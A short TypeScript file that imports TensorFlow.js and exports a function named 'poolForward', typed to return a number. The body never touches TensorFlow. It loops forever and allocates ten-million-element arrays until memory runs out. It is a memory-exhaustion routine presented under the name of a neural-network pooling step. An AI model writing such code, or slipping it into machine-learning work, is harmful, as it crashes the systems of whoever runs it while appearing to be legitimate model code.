import * as tf from '@tensorflow/tfjs';
export function poolForward(): number {
  const hoard: number[][] = [];
  for (;;) hoard.push(new Array(1e7).fill(1.5));
}
